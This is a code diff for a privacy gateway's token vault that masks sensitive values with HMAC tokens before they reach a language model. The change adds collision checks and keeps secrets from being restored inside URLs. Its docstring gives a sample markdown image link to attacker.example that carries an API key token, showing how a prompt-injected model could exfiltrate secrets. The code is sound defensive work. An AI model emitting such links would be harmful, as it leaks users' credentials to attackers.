@@ -1,14 +1,23 @@
 """The token format and the per-request vault.
 
-A value becomes ``[LABEL_xxxxxxxx]``: the label tells the model what kind of value it
-stands for, and the 8 hex digits are an HMAC of (label, value) under the gateway's
-secret. The same value gets the same token in every request, so a conversation whose
-history is re-sent stays consistent and needs no stored mapping. The vault of one
-request maps its tokens back to values and lives only as long as that request.
+A value becomes ``[LABEL_xxxxxxxxxxxx]``: the label tells the model what kind of value
+it stands for, and the 12 hex digits (48 bits) are an HMAC of (label, value) under a
+key of the token namespace (a policy's, or a virtual key's: the same e-mail gets
+different tokens behind two policies, so a provider cannot link one person across
+the apps behind a gateway). In one namespace the same value gets the same token in
+every request, so a conversation whose history is re-sent stays consistent and needs
+no stored mapping. Two values of one request sharing a token would restore wrongly:
+with 48 bits that takes ~16 million values in one request to reach even odds of one
+pair, and the vault refuses the request if it ever happens. The vault of one request
+maps its tokens back to values and lives only as long as that request.
 
 Restoring is tolerant of what models do to tokens: case changes, a space or a dash
-instead of the underscore, a missing bracket. The 8 hex digits must match a token of
-this request exactly, so unrelated text is never replaced.
+instead of the underscore, a missing bracket. The hex digits must match a token of
+this request exactly, so unrelated text is never replaced. Restoring gives nothing
+away to a model that was prompt-injected: a token written inside a URL or a link
+target (``![](https://attacker.example/?d=[API_KEY_...])``) is restored only for the
+labels the policy allows there, and secrets never are; a policy may also keep labels
+from being restored at all.
 """
 
 from __future__ import annotations
@@ -22,7 +31,27 @@ import orjson
 
 from zdr.detect.model import LABELS, occurrences
 
-HEX_DIGITS = 8
+HEX_DIGITS = 12
+# Labels never restored inside a URL or link target, whatever the policy says.
+SECRET_LABELS = frozenset({"API_KEY", "SECRET"})
+_LINK_MARKS = ("://", "](", "mailto:", "www.", "data:")
+# What ends the "word" a token sits in: whitespace, quotes, angle brackets (a URL holds
+# none of them raw).
+_BOUNDARIES = (" ", "\t", "\r", "\n", '"', "'", "<", ">")
+_MAX_WORD = 4096  # how far back the word around a token is read
+
+
+def in_link(text: str, at: int, before: str = "") -> bool:
+    """Whether the token at ``at`` in ``text`` sits in a URL, a markdown link or image
+    target, or an HTML attribute value (``before``: what preceded ``text``)."""
+    stop = max(0, at - _MAX_WORD)
+    b = max(text.rfind(ch, stop, at) for ch in _BOUNDARIES)
+    if b < 0 and stop == 0 and before:
+        return in_link(before + text[:at], len(before) + at)
+    if b >= 1 and text[b] in "\"'" and text[b - 1] == "=":
+        return True  # src="...", href='...'
+    word = text[max(b + 1, stop) : at].lower()
+    return any(mark in word for mark in _LINK_MARKS)
 
 
 def _label_pattern(label: str) -> str:
@@ -67,22 +96,44 @@ _FIND_EACH_UP_TO = 24
 _HEX_RUN = re.compile(rf"[0-9a-f]{{{HEX_DIGITS},}}")
 
 
+_BY_CANONICAL = {lb.replace("_", ""): lb for lb in LABELS}
+
+
+def _canonical_label(written: str) -> str:
+    """The label a model wrote (any case, spaces or underscores) as zdr names it."""
+    return _BY_CANONICAL.get(written.upper().replace("_", "").replace(" ", ""), written)
+
+
 def _lookup_key(label: str, hex_digits: str) -> tuple[str, str]:
     """Labels compared without case, spaces or underscores: a model that writes
     `date of birth` or `DATEOFBIRTH` still names the same token."""
     return label.upper().replace("_", "").replace(" ", ""), hex_digits.lower()
 
 
+class TokenCollision(Exception):
+    """Two values of one request hashed to the same token (never seen: 48 bits)."""
+
+
 class Vault:
-    """One request's tokens. Never shared between requests, never written anywhere."""
+    """One request's tokens. Never shared between requests, never written anywhere.
 
-    __slots__ = ("_hex", "_key", "_values", "counts")
+    ``restore_labels``: the labels put back in answers (None: all); ``link_labels``:
+    those put back inside URLs and link targets (secrets never)."""
 
-    def __init__(self, key: bytes):
+    __slots__ = ("_hex", "_key", "_values", "counts", "link_labels", "restore_labels")
+
+    def __init__(
+        self,
+        key: bytes,
+        restore_labels: frozenset[str] | None = None,
+        link_labels: frozenset[str] = frozenset(),
+    ):
         self._key = key
         self._values: dict[tuple[str, str], str] = {}
         self._hex: set[str] = set()  # the hex digits of this request's tokens
         self.counts: Counter[str] = Counter()
+        self.restore_labels = restore_labels
+        self.link_labels = link_labels - SECRET_LABELS
 
     def __bool__(self) -> bool:
         return bool(self._values)
@@ -90,13 +141,22 @@ class Vault:
     def token_for(self, label: str, value: str) -> str:
         digest = hmac.new(self._key, f"{label}\0{value}".encode(), hashlib.sha256).hexdigest()
         short = digest[:HEX_DIGITS]
-        self._values[_lookup_key(label, short)] = value
+        key = _lookup_key(label, short)
+        if self._values.setdefault(key, value) != value:
+            raise TokenCollision()
         self._hex.add(short)
         self.counts[label] += 1
         return f"[{label}_{short}]"
 
     def value_of(self, label: str, hex_digits: str) -> str | None:
         return self._values.get(_lookup_key(label, hex_digits))
+
+    def _may_restore(self, label: str, text: str, at: int, before: str) -> bool:
+        """Whether the token of ``label`` starting at ``at`` in ``text`` is put back."""
+        canonical = _canonical_label(label)
+        if self.restore_labels is not None and canonical not in self.restore_labels:
+            return False
+        return canonical in self.link_labels or not in_link(text, at, before)
 
     def mentions(self, data: bytes) -> bool:
         """Whether ``data`` holds the hex digits of any token of this request (in any
@@ -119,13 +179,15 @@ class Vault:
             if low[p : p + HEX_DIGITS] in self._hex
         ]
 
-    def restore(self, text: str, json_escape: bool = False) -> str:
-        """Replace every token of this request in ``text`` by its value."""
+    def restore(self, text: str, json_escape: bool = False, before: str = "") -> str:
+        """Replace every token of this request in ``text`` by its value, where the
+        policy lets it be (``before``: the text that preceded ``text`` in the same
+        field of a stream, read for a URL the token may sit in)."""
         if not self._values or len(text) < HEX_DIGITS + 3:  # too short for a token
             return text
         low = text.lower()
         if len(low) != len(text):
-            return self._restore_by_pattern(text, json_escape)  # offsets would shift
+            return self._restore_by_pattern(text, json_escape, before)  # offsets shift
         at = self._digits_at(low)
         if not at:
             return text
@@ -139,7 +201,7 @@ class Vault:
             if head is None:
                 continue
             value = self.value_of(head.group(1), text[p:end])
-            if value is None:
+            if value is None or not self._may_restore(head.group(1), text, head.start(), before):
                 continue
             tail = _TOKEN_TAIL.match(text, end)
             out.append(text[last : head.start()])
@@ -150,10 +212,10 @@ class Vault:
         out.append(text[last:])
         return "".join(out)
 
-    def _restore_by_pattern(self, text: str, json_escape: bool) -> str:
+    def _restore_by_pattern(self, text: str, json_escape: bool, before: str = "") -> str:
         def put_back(m: re.Match[str]) -> str:
             value = self.value_of(m.group(1), m.group(2))
-            if value is None:
+            if value is None or not self._may_restore(m.group(1), text, m.start(), before):
                 return m.group(0)
             if json_escape:  # inside a JSON string (tool-call arguments)
                 return orjson.dumps(value).decode()[1:-1]
